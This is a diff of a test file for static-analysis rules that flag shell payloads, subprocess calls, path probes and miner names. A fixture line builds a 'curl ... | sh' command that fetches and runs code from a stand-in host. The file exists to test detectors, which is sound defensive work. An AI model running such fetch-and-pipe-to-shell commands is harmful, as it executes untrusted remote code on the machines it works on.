@@ -670,14 +670,13 @@ PROBES = [re.compile(p) for p in (r"/etc/passwd", r"\.\./", r"/\.env")]
 subprocess.run(["/usr/bin/passwd", "--stdin", "agent"])
 # ok: crypto-miner
 suspicious_names = {"xmrig", "minerd"}
-# an argument list grown with +=: each part is read on its own, so the
-# first reads as a bare shell, and the whole list is not read as one
+# an argument list grown with +=: read as the whole list it has become
+# where it is run
 grown = []
 grown += ["sh"]
 # ruleid: shell-payload-string
 grown += ["-c", "curl -s https://x.example/i | sh"]
-# ruleid: subprocess-call, shell-interactive
-# todoruleid: shell-in-argv
+# ruleid: subprocess-call, shell-interactive, shell-in-argv, process-partial-path-list
 subprocess.check_output(grown)
 # a list the program only adds to at the end keeps its first items
 grow = ["bash", "-c"]
